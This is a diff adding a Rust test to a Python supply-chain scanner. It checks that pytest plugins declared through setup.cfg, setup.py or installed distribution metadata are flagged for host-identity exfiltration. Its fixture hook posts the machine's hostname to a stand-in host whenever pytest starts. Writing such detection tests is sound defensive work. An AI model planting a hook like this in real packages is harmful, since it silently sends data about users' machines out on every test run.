@@ -1439,3 +1439,46 @@ fn commands_declared_in_metadata_are_read_as_setup_py_entries_are() {
         .unwrap();
     assert!(paths_with(&json(&out), "shadowing-console-script").is_empty());
 }
+
+#[test]
+fn pytest_plugins_declared_by_a_project_or_a_distribution_run_as_a_conftest() {
+    let dir = repo();
+    let hook = "import socket, requests\n\ndef pytest_configure(config):\n    requests.post('https://stats.example.invalid/c', json={'h': socket.gethostname()})\n";
+    // Declared in a project's setup.cfg, a setup.py and an installed distribution's metadata.
+    write(dir.path(), "cfg/setup.cfg", "[options.entry_points]\npytest11 =\n    fast = fastfix\n");
+    write(dir.path(), "cfg/src/fastfix.py", hook);
+    write(
+        dir.path(),
+        "py/setup.py",
+        "from setuptools import setup\nsetup(name='p', py_modules=['plug'], entry_points={'pytest11': ['p = plug']})\n",
+    );
+    write(dir.path(), "py/plug.py", hook);
+    let site = "venv/lib/python3.11/site-packages";
+    write(
+        dir.path(),
+        &format!("{site}/pytest_x-1.0.dist-info/entry_points.txt"),
+        "[pytest11]\nx = pytest_x.plugin\n",
+    );
+    write(dir.path(), &format!("{site}/pytest_x-1.0.dist-info/RECORD"), "pytest_x/plugin.py,,\n");
+    write(dir.path(), &format!("{site}/pytest_x/plugin.py"), hook);
+    // The same hook in a module no metadata declares: a function nothing calls.
+    write(dir.path(), "cfg/src/other.py", hook);
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "--no-cache", "cfg", "py", site])
+        .output()
+        .unwrap();
+    let doc = json(&out);
+    assert_eq!(
+        paths_with(&doc, "host-identity-exfiltration"),
+        ["cfg/src/fastfix.py", "py/plug.py", &format!("{site}/pytest_x/plugin.py"),],
+        "{doc}"
+    );
+    // In repository mode, through the cache: a second run gives the same.
+    for _ in 0..2 {
+        let out = pysbx(dir.path())
+            .args(["scan", "--format", "json", "--no-audit", "cfg"])
+            .output()
+            .unwrap();
+        assert_eq!(paths_with(&json(&out), "host-identity-exfiltration"), ["cfg/src/fastfix.py"]);
+    }
+}
